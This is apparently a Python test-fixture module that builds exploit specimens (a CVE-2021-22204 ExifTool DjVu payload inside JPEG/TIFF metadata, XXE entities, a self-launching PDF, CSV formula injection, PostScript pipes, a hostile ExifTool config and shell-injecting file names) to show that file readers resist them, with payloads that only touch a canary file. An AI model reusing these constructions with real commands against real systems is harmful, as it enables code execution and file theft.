"""Makes files and names that would run a program, read a file or call somewhere, in readers with known holes.

Nothing in here is harmful: what would run is `touch CANARY`. `holes` are the holes themselves, a line or two each, so
that tests can show that a specimen works before they show that it does not work on us.
"""

import io
import struct
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from xml.sax import make_parser
from xml.sax.handler import ContentHandler, feature_external_ges

from tests.specimens import pictures

PERL, EXIFTOOL = "/usr/bin/perl", "/usr/bin/exiftool"


def _touch(canary: Path) -> str:
    """A shell command without a character that a file's name cannot hold or a program's text would mind."""
    octal = "".join(f"\\\\{byte:03o}" for byte in str(canary).encode())
    return f"touch $(printf {octal})"


# --- bytes -------------------------------------------------------------------------------------------------------


def annotation(canary: Path) -> bytes:
    """A DjVu annotation in the style of CVE-2021-22204: ends the string that ExifTool 7.44–12.23 evaluated as Perl."""
    hexed = f"touch {canary}".encode().hex()
    return f'(metadata\n\t(Author "\\\n" . system(pack(qw(H*), qw({hexed}))) . "\\\n"))\n'.encode()


def djvu(canary: Path) -> bytes:
    """A page of DjVu (IFF: a form with an INFO and an ANTa chunk) that bears the annotation."""
    note = annotation(canary)
    info = struct.pack(">HHBBHBB", 8, 8, 24, 0, 300 & 0xFF, 22, 1)
    body = b"DJVU" + b"INFO" + struct.pack(">I", len(info)) + info + b"ANTa" + struct.pack(">I", len(note)) + note
    return b"AT&TFORM" + struct.pack(">I", len(body)) + body


def _planted(path: Path, canary: Path) -> bytes:
    """Puts the DjVu file where ExifTool looks for files within pictures: Exif's tag 0xC51B."""
    inner = djvu(canary)
    tiff = b"MM\0*" + struct.pack(">IHHHIII", 8, 1, 0xC51B, 7, len(inner), 26, 0) + inner
    if path.suffix == ".tif":
        return tiff
    pictures.plain_jpeg(path)
    exif = b"Exif\0\0" + tiff
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + path.read_bytes()[2:]


def _entities(shape: str, secret: Path, address: str) -> bytes:
    doctype = f'<!DOCTYPE {shape} [<!ENTITY near SYSTEM "{secret.as_uri()}"><!ENTITY far SYSTEM "{address}">]>'
    return f'<?xml version="1.0"?>{doctype}'.encode()


def _svg(secret: Path, address: str) -> bytes:
    links = f'<image href="{secret.as_uri()}" width="9" height="9"/><image href="{address}" width="9" height="9"/>'
    body = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><text y="20">&near;&far;</text>{links}</svg>'
    )
    return _entities("svg", secret, address) + body.encode()


def _launching_pdf(canary: Path, address: str) -> bytes:
    """Opens by starting a program, calling an address and running a script (ISO 32000-1, 12.6.4)."""
    launch = f"<</S/Launch/F({canary})/Unix<</F(touch {canary})>>/Win<</F(cmd)/P(/c touch {canary})>>>>"
    actions = f"[{launch}<</S/URI/URI({address})>><</S/JavaScript/JS(app.launchURL\\('{address}'\\))>>]"
    objects = (
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToE/Next{actions}>>/AA<</WC{launch}>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O{launch}>>>>",
    )
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj{body}endobj\n".encode()
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    return (
        out
        + f"xref\n0 4\n0000000000 65535 f \n{rows}trailer<</Root 1 0 R/Size 4>>startxref\n{len(out)}\n%%EOF".encode()
    )


def files(folder: Path, canary: Path, secret: Path, address: str) -> list[Path]:
    """Writes one of each; `secret` is a file that none of them may show, `address` one that none may call."""
    xml = _entities("a", secret, address) + b"<a>&near;&far;</a>"
    html = f'<html><script src="{address}"></script><iframe src="{secret.as_uri()}"></iframe><p>x</p></html>'
    playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{secret.as_uri()}\n#EXTINF:1,\n{address}\n"
    postscript = f"%!PS-Adobe-3.0\n(%pipe%touch {canary}) (w) file closefile showpage\n"
    made = {
        "annotated.djvu": djvu(canary),
        "annotated.jpg": _planted(folder / "annotated.jpg", canary),
        "annotated.tif": _planted(folder / "annotated.tif", canary),
        "entities.svg": _svg(secret, address),
        "entities.xml": xml,
        "launching.pdf": _launching_pdf(canary, address),
        "calling.html": html.encode(),
        "calling.md": f"![x]({address}) ![y]({secret.as_uri()})\n".encode(),
        "table.csv": f'a,b\n"=cmd|\'/c touch {canary}\'!A1",=WEBSERVICE("{address}")\n'.encode(),
        "playlist.m3u8": playlist.encode(),
        "printer.ps": postscript.encode(),
        "config": f"system('touch {canary}'); 1;\n".encode(),
    }
    for name, data in made.items():
        (folder / name).write_bytes(data)
    return [folder / name for name in made]


# --- names -------------------------------------------------------------------------------------------------------


def names(canary: Path) -> list[str]:
    """Names that a program, a shell or ExifTool's list of arguments would obey; none holds a slash."""
    touch = _touch(canary)
    perl = f"system(pack(qw(H*), qw({f'touch {canary}'.encode().hex()})))"
    return [
        f"x\n-if\n{perl}\nb.jpg",
        f"x\n-execute\n-if\n{perl}\n.\nb.jpg",
        f"{touch} |",
        f"| {touch}",
        f"$({touch}).jpg",
        f"`{touch}`.jpg",
        f"; {touch} ;.jpg",
        f'"; {touch}; ".jpg',
        f"'; {touch}; '.jpg",
        f"\n{touch}\n.jpg",
        "#comment.jpg",
        "-config.jpg",
        "-@",
        "--",
        "%n.jpg",
        "~.jpg",
        "\x1b]0;x\a.jpg",
    ]


# --- the holes ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Hole:
    """How a known reader was made to run what it read: files beside it, the command, what it is given."""

    name: str
    beside: Mapping[str, bytes]
    argv: tuple[str, ...]
    given: bytes = b""


def holes(canary: Path) -> list[Hole]:
    """Gives each hole with its specimen in it."""
    words = annotation(canary).split(b'"', 1)[1].rsplit(b'"', 1)[0]
    injected, piped, shelled = (names(canary)[number] for number in (0, 2, 4))
    config = f"system('touch {canary}'); 1;\n".encode()
    evaluate = 'local $/; my $tok = <STDIN>; $tok = eval qq{"$tok"};'
    return [
        # ExifTool 12.23 with the words between the quotes of an annotation (CVE-2021-22204)
        Hole("annotation", {}, (PERL, "-e", evaluate), words),
        # ExifTool 12.37 with a name: Perl's open with two arguments (CVE-2022-23935)
        Hole("piped name", {}, (PERL, "-e", "open(my $file, $ARGV[0]); close $file", piped)),
        # any ExifTool with a name of several lines, where names are handed over one a line (pyexiftool)
        Hole("injected name", {"b.jpg": b"\xff\xd8\xff\xd9"}, (EXIFTOOL, "-config", "", "-@", "-"), injected.encode()),
        # jhead with a name: a command put together for a shell (CVE-2022-41751)
        Hole("shell name", {}, ("/bin/sh", "-c", f'cp "{shelled}" copy')),
        # any ExifTool with a configuration at home
        Hole("configuration", {".ExifTool_config": config}, ("/bin/sh", "-c", "HOME=. exec exiftool -ver")),
    ]


class _Words(ContentHandler):
    def __init__(self) -> None:
        super().__init__()
        self.said = ""

    def characters(self, content: str) -> None:
        self.said += content


def entity_shows(secret: Path) -> str:
    """Gives the words of a document as a reader that follows external entities sees them."""
    words, parser = _Words(), make_parser()  # noqa: S317 — the hole is the point, and the document is our own
    parser.setFeature(feature_external_ges, True)
    parser.setContentHandler(words)
    parser.parse(io.BytesIO(_entities("a", secret, secret.as_uri()) + b"<a>&near;</a>"))
    return words.said
